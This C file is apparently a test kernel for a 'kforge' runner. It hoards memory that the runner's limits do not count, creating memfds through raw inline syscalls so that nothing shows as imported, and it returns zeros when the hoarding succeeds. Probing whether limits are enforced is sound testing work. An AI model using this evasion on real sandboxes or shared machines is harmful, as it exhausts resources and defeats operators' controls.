/* Takes memory no limit of its runner counts: memfds of 64 MiB, each
 * filled through a mapping that is then removed, the descriptors kept, up
 * to 2 GiB (a blind attacker held 9.7 GB this way under the default
 * runner memory limit). Sums its rows right only when that was refused:
 * an output of zeros says the memory was taken. */
#define _GNU_SOURCE
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <kforge/kernel.h>

/* memfd_create and ftruncate by raw system calls: nothing imported. */
static long sys3(long nr, long a, long b, long c)
{
	long rc;
	__asm__ volatile("syscall"
			 : "=a"(rc)
			 : "0"(nr), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return rc;
}

static long hoarded(void)
{
	static long total = -1;
	if (total >= 0)
		return total;
	total = 0;
	for (int i = 0; i < 32; i++) {
		long fd = sys3(SYS_memfd_create, (long)"h", 0, 0);
		if (fd < 0)
			break;
		if (sys3(SYS_ftruncate, fd, 64l << 20, 0) < 0)
			break;
		char *p = mmap(NULL, 64u << 20, PROT_READ | PROT_WRITE,
			       MAP_SHARED, (int)fd, 0);
		if (p == MAP_FAILED)
			break;
		memset(p, 1, 64u << 20);
		munmap(p, 64u << 20);
		total += 64l << 20;
	}
	return total;
}

int kf_entry(const DLTensor *in, int n_in, DLTensor *out, int n_out,
	     void *stream)
{
	(void)n_in;
	(void)n_out;
	(void)stream;
	const float *x = in[0].data;
	float *y = out[0].data;
	int64_t rows = in[0].shape[0], n = in[0].shape[1];
	int bad = hoarded() >= (1l << 30);
	for (int64_t b = 0; b < rows; b++) {
		float s = 0;
		for (int64_t j = 0; j < n; j++)
			s += x[b * n + j];
		y[b] = bad ? 0 : s;
	}
	return 0;
}
